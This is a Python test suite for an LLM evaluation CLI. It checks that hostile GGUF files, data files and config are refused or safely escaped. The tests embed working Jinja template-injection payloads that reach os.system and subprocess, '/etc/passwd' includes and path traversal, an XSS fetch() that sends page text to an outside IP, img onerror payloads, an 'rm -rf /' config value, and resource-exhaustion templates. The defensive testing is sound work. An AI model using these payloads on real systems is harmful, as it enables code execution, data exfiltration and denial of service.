"""Hostile and broken inputs through the CLI: GGUF files from public hubs (template injection, absurd
metadata, truncation, noise), malformed data files (hypothesis-generated), config that points outside the
project, templates that never end. Each gives a one-line error (exit 2) or is handled safely; nothing a
file says is ever executed."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import struct
import uuid
from pathlib import Path

import gguf
import numpy as np
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from edgeeval.errors import TemplateError
from edgeeval.prompting.prompts import TaskPrompt
from edgeeval.run.store import read_records

from cli_support import run_cli
from conftest import takes_at_most

HOSTILE_FIRST_TOML = """
[models.hostile]
path = "hostile.gguf"
family = "general"
chat_template = "{template}"
n_ctx = 4096

[models.bio-small]
path = "bio.gguf"
family = "biomedical"
chat_template = "prompts/chat/chatml.j2"

[pairs.test]
baseline = "hostile"
candidate = "bio-small"
"""


def fake_run(project: Path, out: Path, *extra: str) -> int:
    return run_cli(project, "run", "--pair", "test", "--task", "case_challenges", "--engine", "fake", "--quiet",
                   "--models-dir", str(project.parent / "models"), "--out", str(out), *extra)


def one_line_error(err: str) -> str:
    assert err.count("\n") == 1 and err.startswith("edgeeval: error: "), err
    assert "Traceback" not in err
    return err


def use_hostile_model(project: Path, template: str = "gguf") -> Path:
    """models.toml whose baseline (run first) is models/hostile.gguf; returns that path."""
    (project / "models.toml").write_text(HOSTILE_FIRST_TOML.format(template=template))
    return project.parent / "models" / "hostile.gguf"


def write_gguf(path: Path, chat_template: str | None = None, name: str = "hostile", **extra) -> Path:
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name(name)
    writer.add_context_length(2048)
    if chat_template is not None:
        writer.add_chat_template(chat_template)
    for key, value in extra.items():
        writer.add_string(key, value)
    writer.add_tensor("token_embd.weight", np.zeros((8, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


# --- chat templates that try to run code (SSTI), through the whole pipeline -----------------------------

SSTI = [
    # attribute walks from the globals Jinja and our environment provide
    "{{ cycler.__init__.__globals__.os.popen('touch SENTINEL').read() }}",
    "{{ joiner.__init__.__globals__.os.system('touch SENTINEL') }}",
    "{{ namespace.__init__.__globals__['os'].system('touch SENTINEL') }}",
    "{{ raise_exception.__globals__['__builtins__']['__import__']('os').system('touch SENTINEL') }}",
    "{{ strftime_now.__globals__.__builtins__.open('SENTINEL', 'w') }}",
    "{{ lipsum.__globals__.os.system('touch SENTINEL') }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('subprocess').run(['touch', 'SENTINEL']) }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch SENTINEL') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ [].__class__.__base__.__subclasses__()[140].__init__.__globals__['sys'].modules['os'].system('touch SENTINEL') }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c(['touch', 'SENTINEL']) }}{% endif %}{% endfor %}",
    "{{ messages[0]['content'].__class__.__base__ }}",
    "{{ (1).__class__.__base__.__subclasses__() }}",
    "{{ dict(a=1).__class__ }}",
    "{{ range.__self__ }}",
    "{{ ''.join.__self__ }}",
    # the |attr filter, map/select/sort/groupby with attribute names
    "{{ (cycler|attr('__init__')|attr('__globals__'))['os'].system('touch SENTINEL') }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages|attr('__class__')|attr('__mro__') }}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ messages|selectattr('__class__')|list }}",
    "{{ messages|sort(attribute='__class__.__init__.__globals__') }}",
    "{{ messages|groupby('__class__') }}",
    "{{ messages|sum(attribute='__class__') }}",
    "{{ messages|attr('__getitem__')(0) }}",
    # format-string tricks: attribute access inside the format mini-language
    "{{ '{0.__class__.__mro__[1].__subclasses__}'.format('') }}",
    "{{ '{0.__init__.__globals__[os]}'.format(cycler) }}",
    "{{ '{0.__globals__[os].system}'.format(raise_exception) }}",
    "{{ '{x.__class__}'.format_map({'x': messages}) }}",
    "{{ '{x.__init__.__globals__}'.format_map(namespace(x=cycler)) }}",
    "{{ ('{0.' ~ '__class' ~ '__}').format(messages) }}",
    "{{ '%s' % messages.__class__ }}",
    "{{ '%(a)s'|format(a=cycler.__init__) }}",
    # mutating the conversation, reaching the loader, the context, the environment
    "{{ messages.append({'role': 'user', 'content': 'injected'}) }}",
    "{{ messages.pop() }}{{ messages.clear() }}",
    "{{ messages[0].update({'content': 'x'}) }}",
    "{% set x = messages.__setitem__(0, 1) %}",
    "{{ self._TemplateReference__context.environment.globals }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os.system('touch SENTINEL') }}",
    "{% extends '/etc/passwd' %}",
    "{% from '/etc/passwd' import x %}",
    "{{ config.__class__ }}{{ request.environ }}{{ url_for.__globals__ }}",
]

HARMLESS = [
    "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}",
    "{{ messages|tojson }}{{ not_defined }}{{ messages[0].content.upper() }}",
    "{{ config }}{{ request }}{{ lipsum }}{% for m in messages %}{{ m.content }}{% endfor %}",
]


@pytest.mark.parametrize("payload", SSTI + HARMLESS)
def test_chat_template_injection_runs_no_code(project_dir, tmp_path, capsys, payload):
    sentinel = tmp_path / f"pwned-{uuid.uuid4().hex}"
    write_gguf(use_hostile_model(project_dir), payload.replace("SENTINEL", str(sentinel)))
    out = tmp_path / "run"
    code = fake_run(project_dir, out, "--limit", "2")
    assert not sentinel.exists(), "a chat template ran a shell command"
    captured = capsys.readouterr()
    if code == 2:
        err = one_line_error(captured.err)
        assert "chat template gguf" in err
        assert not (out / "records" / "hostile").exists()  # refused before the model was used
    else:
        # What the sandbox lets through renders as harmless text: no object, function or module leaks.
        assert code == 0, captured.err
        for record in read_records(out / "records" / "hostile" / "case_challenges.jsonl"):
            assert not any(leak in record.prompt for leak in ("<class", "<function", "<module", "<built-in",
                                                               "<bound method", "<jinja2", "__globals__", "root:x:0"))
    if "SENTINEL" in payload:
        assert code == 2  # every attempt to reach a shell or a file is stopped, not just defused


# --- GGUF files that are broken or lie --------------------------------------------------------------

U32, I32, F32, BOOL, STRING, ARRAY, U64 = 4, 5, 6, 7, 8, 9, 10


def s(text: str | bytes) -> bytes:
    data = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(data)) + data


def kv(key: str, vtype: int, payload: bytes) -> bytes:
    return s(key) + struct.pack("<I", vtype) + payload


def raw_gguf(*kvs: bytes, tensors: int = 0, version: int = 3, tail: bytes = b"") -> bytes:
    return b"GGUF" + struct.pack("<IQQ", version, tensors, len(kvs)) + b"".join(kvs) + tail


ARCH = kv("general.architecture", STRING, s("llama"))


def broken_files() -> list[tuple[str, bytes, str]]:
    """(case, file content, text the error must contain)."""
    rng = random.Random(1234)
    cases = [
        ("zero bytes", b"", "empty"),
        ("magic only", b"GGUF", "truncated"),
        ("zip file", b"PK\x03\x04" + bytes(100), "not a GGUF"),
        ("big-endian", b"GGUF" + struct.pack(">IQQ", 3, 0, 0), "big-endian"),
        ("version 99", raw_gguf(version=99), "version"),
        ("2^40 key/values", b"GGUF" + struct.pack("<IQQ", 3, 0, 2**40), "key/value"),
        ("2^40 tensors", b"GGUF" + struct.pack("<IQQ", 3, 2**40, 0), "tensors"),
        ("8 EiB string", raw_gguf(kv("general.name", STRING, struct.pack("<Q", 2**63))), "general.name"),
        ("2^60-item array", raw_gguf(kv("x.a", ARRAY, struct.pack("<IQ", U32, 2**60))), "x.a"),
        ("array of 2^40 strings", raw_gguf(kv("x.s", ARRAY, struct.pack("<IQ", STRING, 2**40))), "x.s"),
        ("arrays nested 100 deep", raw_gguf(kv("x.n", ARRAY, struct.pack("<IQ", ARRAY, 1) * 100 + struct.pack("<IQ", U32, 0))), "nested"),
        ("unknown value type", raw_gguf(kv("x.t", 77, b"")), "unknown value type"),
        ("duplicate key", raw_gguf(ARCH, ARCH), "duplicate"),
        ("architecture is a number", raw_gguf(kv("general.architecture", U32, struct.pack("<I", 7))), "general.architecture"),
        ("context length is text", raw_gguf(ARCH, kv("llama.context_length", STRING, s("4096"))), "llama.context_length"),
        ("negative context length", raw_gguf(ARCH, kv("llama.context_length", I32, struct.pack("<i", -1))), "llama.context_length"),
        ("zero context length", raw_gguf(ARCH, kv("llama.context_length", U32, struct.pack("<I", 0))), "llama.context_length"),
        ("chat template is a number", raw_gguf(ARCH, kv("tokenizer.chat_template", U32, struct.pack("<I", 1))), "tokenizer.chat_template"),
        ("chat template is an array", raw_gguf(ARCH, kv("tokenizer.chat_template", ARRAY, struct.pack("<IQ", STRING, 1) + s("{{ x }}"))), "tokenizer.chat_template"),
        ("alignment is text", raw_gguf(ARCH, kv("general.alignment", STRING, s("32"))), "general.alignment"),
        ("alignment 3", raw_gguf(ARCH, kv("general.alignment", U32, struct.pack("<I", 3))), "general.alignment"),
        ("tensor past the end", raw_gguf(ARCH, tensors=1, tail=s("w") + struct.pack("<IqqIQ", 2, 1024, 1024, 0, 0)), "truncated"),
        ("tensor with 9 dimensions", raw_gguf(ARCH, tensors=1, tail=s("w") + struct.pack("<I", 9) + bytes(80)), "dimensions"),
        ("tensor name 1 MiB", raw_gguf(ARCH, tensors=1, tail=s(b"n" * 2**20)), "tensor"),
        ("chat template of 2 MB", raw_gguf(ARCH, kv("tokenizer.chat_template", STRING, s("x" * 2_000_000))), "over the"),
    ]
    for i in range(12):  # noise after a valid header start
        noise = bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 400)))
        cases.append((f"noise {i}", b"GGUF" + struct.pack("<I", 3) + noise, ""))
    return cases


def good_template_gguf(tmp_path: Path) -> bytes:
    return write_gguf(tmp_path / "good.gguf", "{% for m in messages %}{{ m['content'] }}{% endfor %}").read_bytes()


@pytest.mark.parametrize("case", [c[0] for c in broken_files()])
def test_broken_gguf_is_a_one_line_error(project_dir, tmp_path, capsys, case):
    _, content, expected = next(c for c in broken_files() if c[0] == case)
    path = use_hostile_model(project_dir)
    path.write_bytes(content)
    assert fake_run(project_dir, tmp_path / "run") == 2
    err = one_line_error(capsys.readouterr().err)
    assert expected in err
    if "chat template" not in case:  # (template errors say "chat template gguf", not which file)
        assert str(path) in err


def test_every_truncation_of_a_gguf_is_a_one_line_error(project_dir, tmp_path, capsys):
    good = good_template_gguf(tmp_path)
    path = use_hostile_model(project_dir)
    cuts = sorted(set(random.Random(5).sample(range(1, len(good)), 25)))
    for cut in cuts:
        path.write_bytes(good[:cut])
        assert fake_run(project_dir, tmp_path / "run") == 2, cut
        err = one_line_error(capsys.readouterr().err)
        assert str(path) in err
    assert not (tmp_path / "run").exists()  # refused before the run directory was made


@pytest.mark.parametrize("target", ["/dev/zero", "/dev/urandom", "directory", "fifo", "symlink loop"])
def test_model_path_that_is_not_a_file(project_dir, tmp_path, capsys, target):
    path = use_hostile_model(project_dir)
    if target == "directory":
        path.mkdir()
    elif target == "fifo":
        os.mkfifo(path)
    elif target == "symlink loop":
        path.symlink_to(path)
    else:
        path.symlink_to(target)
    with takes_at_most(cpu_s=10):
        assert fake_run(project_dir, tmp_path / "run") == 2
    one_line_error(capsys.readouterr().err)


def test_odd_but_valid_metadata_is_handled_safely(project_dir, tmp_path, capsys):
    """No tokenizer, a 100 kB name, odd strings: the fake engine runs; the report escapes the name."""
    path = use_hostile_model(project_dir)
    script = "<script>fetch('http://198.51.100.1/?'+document.body.innerText)</script>"
    write_gguf(path, "{% for m in messages %}{{ m['content'] }}{% endfor %}", name=script + "n" * 100_000,
               **{"general.description": "\x00\x1b[31m\u202e", "general.url": "javascript:alert(1)"})
    out = tmp_path / "run"
    assert fake_run(project_dir, out, "--limit", "2") == 0, capsys.readouterr().err
    assert script not in (out / "report.html").read_text(encoding="utf-8")


def test_untrusted_text_is_escaped_in_the_html_report(project_dir, tmp_path, capsys):
    """Data files and model output are untrusted: a report opened in a browser must not run their markup."""
    script = "<script>fetch('http://198.51.100.1/?'+document.body.innerText)</script>"
    rows = [{"id": f"x{i}<img src=x onerror=alert(1)>", "question": f"Case {i}: {script}",
             "options": {"A": f"{script} a", "B": "<b>b</b>"}, "answer_idx": "A"} for i in range(4)]
    data = tmp_path / "evil.jsonl"
    data.write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    out = tmp_path / "run"
    assert fake_run(project_dir, out, "--data", f"case_challenges={data}") == 0, capsys.readouterr().err
    text = (out / "report.html").read_text(encoding="utf-8")
    assert script not in text and "<img src=x" not in text
    assert "&lt;script&gt;fetch" in text  # shown, as text


# --- malformed data files through --data (hypothesis) -------------------------------------------------

PATIENT = "Mrs. Quilliam-Oyelaran, 71, MRN 4471-0093, presents with"
HEADER = ["id", "question", "opa", "opb", "opc", "opd", "answer_idx"]
N_ROWS = 6


def base_rows() -> list[list[str]]:
    return [[f"r{i}", f"{PATIENT} case {i}?", "alpha", "beta", "gamma", "delta", "ABCD"[i % 4]] for i in range(N_ROWS)]


def csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([HEADER, *rows])
    return buffer.getvalue().encode()


def data_error(project: Path, tmp_path: Path, capsys, name: str, content: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(content)
    code = fake_run(project, tmp_path / "run", "--data", f"case_challenges={path}")
    err = capsys.readouterr().err
    assert code == 2, err
    err = one_line_error(err)
    assert PATIENT not in err  # the case text is never echoed
    return err.replace(str(path), "PATH")


HYPO = settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
row_index = st.integers(0, N_ROWS - 1)


@HYPO
@given(row=row_index, bad=st.sampled_from([b"\xff", b"\xc3\x28", b"\x80abc", b"caf\xe9", b"\xed\xa0\x80"]),
       at=st.integers(0, 40))
def test_wrong_encoding(project_dir, tmp_path, capsys, row, bad, at):
    lines = csv_bytes(base_rows()).split(b"\n")
    line = lines[row + 1]
    lines[row + 1] = line[:at] + bad + line[at:]
    err = data_error(project_dir, tmp_path, capsys, "enc.csv", b"\n".join(lines))
    assert f"PATH:{row + 2}:" in err and "UTF-8" in err


@HYPO
@given(row=row_index, at=st.integers(0, 40), suffix=st.sampled_from([".csv", ".jsonl"]))
def test_nul_bytes(project_dir, tmp_path, capsys, row, at, suffix):
    if suffix == ".csv":
        lines = csv_bytes(base_rows()).split(b"\n")
        target = row + 1
    else:
        lines = [json.dumps(dict(zip(HEADER, r))).encode() for r in base_rows()]
        target = row
    lines[target] = lines[target][:at] + b"\x00" + lines[target][at:]
    err = data_error(project_dir, tmp_path, capsys, f"nul{suffix}", b"\n".join(lines))
    assert f"PATH:{target + 1}:" in err and "NUL" in err


@HYPO
@given(row=row_index, depth=st.integers(1_100, 200_000), opener=st.sampled_from(["[", '{"a":']))
def test_json_nesting_bombs(project_dir, tmp_path, capsys, row, depth, opener):
    closer = "]" if opener == "[" else "}"
    lines = [json.dumps(dict(zip(HEADER, r))) for r in base_rows()]
    lines[row] = '{"question": ' + opener * depth + "1" + closer * depth + "}"
    err = data_error(project_dir, tmp_path, capsys, "bomb.jsonl", "\n".join(lines).encode())
    assert f"PATH:{row + 1}:" in err


@HYPO
@given(row=row_index, delta=st.integers(-5, 5).filter(bool), cell=st.text(st.characters(blacklist_categories=("Cs",)), max_size=20))
def test_ragged_csv_rows(project_dir, tmp_path, capsys, row, delta, cell):
    rows = base_rows()
    rows[row] = rows[row][:delta] if delta < 0 else rows[row] + [cell] * delta
    content = csv_bytes(rows)
    line = content.decode().split("\n").index(next(l for l in content.decode().split("\n") if l.startswith(f"r{row},"))) + 1
    err = data_error(project_dir, tmp_path, capsys, "ragged.csv", content)
    assert f"PATH:{line}:" in err


@HYPO
@given(first=row_index, second=row_index)
def test_duplicate_ids(project_dir, tmp_path, capsys, first, second):
    assume(first != second)
    rows = base_rows()
    rows[max(first, second)][0] = rows[min(first, second)][0]
    err = data_error(project_dir, tmp_path, capsys, "dup.csv", csv_bytes(rows))
    assert f"PATH:{max(first, second) + 2}:" in err and "duplicated id" in err


@HYPO
@given(row=row_index, label=st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=8)
       .filter(lambda v: v.strip().upper() not in ("A", "B", "C", "D")))
def test_labels_outside_the_label_set(project_dir, tmp_path, capsys, row, label):
    rows = base_rows()
    rows[row][-1] = label
    err = data_error(project_dir, tmp_path, capsys, "label.csv", csv_bytes(rows))
    assert f"PATH:{row + 2}:" in err and "answer_idx" in err


@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(size=st.integers(50_000, 400_000), row=row_index)
def test_extremely_long_field_is_an_error_record_not_a_crash(project_dir, tmp_path, capsys, size, row):
    rows = base_rows()
    rows[row][1] = (PATIENT + " fever. ") * (size // 60)
    data = tmp_path / "long.csv"
    data.write_bytes(csv_bytes(rows))
    out = tmp_path / f"run-{size}"
    assert fake_run(project_dir, out, "--data", f"case_challenges={data}") == 0
    assert PATIENT not in capsys.readouterr().err
    recs = {r.example_id: r for r in read_records(out / "records" / "bio-small" / "case_challenges.jsonl")}
    assert len(recs) == N_ROWS
    assert recs[f"r{row}"].error.startswith("prompt_too_long") and PATIENT not in recs[f"r{row}"].error
    assert all(r.error is None for i, r in recs.items() if i != f"r{row}")


# --- config: unknown keys, wrong types, paths outside the project -------------------------------------


def task_toml(project: Path) -> Path:
    return project / "benchmarks" / "clinical" / "case_challenges.toml"


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda t: "temperature = 0.7\n" + t, "unknown key 'temperature'"),
        (lambda t: t.replace("max_tokens = 128", 'max_tokens = "many"'), "max_tokens"),
        (lambda t: t.replace("max_tokens = 128", "max_tokens = -1"), "max_tokens"),
        (lambda t: t.replace('kind = "multiple_choice"', 'kind = "exec"'), "kind"),
        (lambda t: t + "\n[data]\npath = 'x'\n", "invalid TOML"),
        (lambda t: t.replace("[data]", "[data]\nshell = 'rm -rf /'"), "data.shell"),
    ],
)
def test_bad_task_toml(project_dir, tmp_path, capsys, edit, expected):
    path = task_toml(project_dir)
    path.write_text(edit(path.read_text()))
    assert fake_run(project_dir, tmp_path / "run") == 2
    err = one_line_error(capsys.readouterr().err)
    assert str(path) in err and expected in err


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda t: t.replace('source = "test"', 'source = "test"\nauto_download = true', 1), "auto_download"),
        (lambda t: t.replace('family = "general"', 'family = "general"\nn_ctx = "big"'), "n_ctx"),
        (lambda t: t.replace('family = "general"', 'family = "general"\nn_ctx = 0'), "n_ctx"),
        (lambda t: t.replace('family = "general"', 'family = "alien"'), "family"),
        (lambda t: t.replace('chat_template = "prompts/chat/chatml.j2"', 'chat_template = "evil.py"', 1), "chat_template"),
        (lambda t: t + "\n[pairs.x]\nbaseline = 'nobody'\ncandidate = 'bio-small'\n", "nobody"),
    ],
)
def test_bad_models_toml(project_dir, tmp_path, capsys, edit, expected):
    path = project_dir / "models.toml"
    path.write_text(edit(path.read_text()))
    assert fake_run(project_dir, tmp_path / "run") == 2
    err = one_line_error(capsys.readouterr().err)
    assert "models.toml" in err and expected in err


def outside_template(tmp_path: Path) -> Path:
    evil = tmp_path / "outside" / "evil.j2"
    evil.parent.mkdir(exist_ok=True)
    evil.write_text("{{ messages[0]['content'] }} LEAKED-OUTSIDE")
    return evil


@pytest.mark.parametrize("where", ["dotdot", "absolute", "symlink"])
def test_chat_template_path_must_stay_inside_the_project(project_dir, tmp_path, capsys, where):
    evil = outside_template(tmp_path)
    spec = {"dotdot": "../outside/evil.j2", "absolute": str(evil), "symlink": "prompts/chat/link.j2"}[where]
    if where == "symlink":
        (project_dir / "prompts" / "chat" / "link.j2").symlink_to(evil)
    toml = project_dir / "models.toml"
    toml.write_text(toml.read_text().replace("prompts/chat/chatml.j2", spec))
    assert fake_run(project_dir, tmp_path / "run") == 2
    err = one_line_error(capsys.readouterr().err)
    assert "outside the project" in err and spec in err


@pytest.mark.parametrize("where", ["dotdot", "etc_passwd"])
def test_task_prompt_path_must_stay_inside_the_project(project_dir, tmp_path, capsys, where):
    outside_template(tmp_path)
    spec = {"dotdot": "../outside/evil.j2", "etc_passwd": "../../../../../../../../etc/passwd"}[where]
    path = task_toml(project_dir)
    path.write_text(path.read_text().replace('prompt = "prompts/case_challenge.j2"', f'prompt = "{spec}"'))
    assert fake_run(project_dir, tmp_path / "run") == 2
    err = one_line_error(capsys.readouterr().err)
    assert "outside the project" in err
    assert not (tmp_path / "run" / "records").exists()


@pytest.mark.parametrize("where", ["absolute", "symlink"])
def test_task_prompt_absolute_or_symlinked_outside_is_refused(project_dir, tmp_path, capsys, where):
    evil = outside_template(tmp_path)
    spec = {"absolute": str(evil), "symlink": "prompts/link.j2"}[where]
    if where == "symlink":
        (project_dir / "prompts" / "link.j2").symlink_to(evil)
    path = task_toml(project_dir)
    path.write_text(path.read_text().replace('prompt = "prompts/case_challenge.j2"', f'prompt = "{spec}"'))
    assert fake_run(project_dir, tmp_path / "run") == 2
    assert "outside the project" in one_line_error(capsys.readouterr().err)


@pytest.mark.parametrize("spec", ["../outside/evil.j2", "ABSOLUTE", "prompts/link.j2"])
def test_task_prompt_with_a_root_refuses_every_escape(tmp_path, spec):
    root = tmp_path / "project"
    (root / "prompts").mkdir(parents=True)
    evil = outside_template(tmp_path)
    (root / "prompts" / "link.j2").symlink_to(evil)
    spec = str(evil) if spec == "ABSOLUTE" else spec
    with pytest.raises(TemplateError, match="outside the project"):
        TaskPrompt(Path(spec), root=root)
    (root / "prompts" / "ok.j2").write_text("{{ question }}")
    assert TaskPrompt(Path("prompts/ok.j2"), root=root).text == "{{ question }}"


# --- templates that never end, or ask for what is not there ---------------------------------------------

NEVER_ENDING = [
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{{ question }}{% endfor %}",
    "{{ 'x' * 10**9 }}",
    "{{ question * 100000 }}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{% for i in range(10**9) %}{% endfor %}",
    "{{ question.__class__.__mro__ }}",
]


@pytest.mark.parametrize("template", NEVER_ENDING)
def test_task_template_work_is_bounded(project_dir, tmp_path, capsys, template):
    (project_dir / "prompts" / "case_challenge.j2").write_text(template)
    with takes_at_most(cpu_s=10):
        assert fake_run(project_dir, tmp_path / "run") == 2
    err = one_line_error(capsys.readouterr().err)
    assert "case_challenge.j2" in err


def test_chat_override_with_undefined_variable(project_dir, tmp_path, capsys):
    (project_dir / "prompts" / "chat" / "chatml.j2").write_text("{{ messages[0].content }}{{ system_prompt_v2 }}")
    assert fake_run(project_dir, tmp_path / "run") == 2
    err = one_line_error(capsys.readouterr().err)
    assert "system_prompt_v2" in err and "prompts/chat/chatml.j2" in err
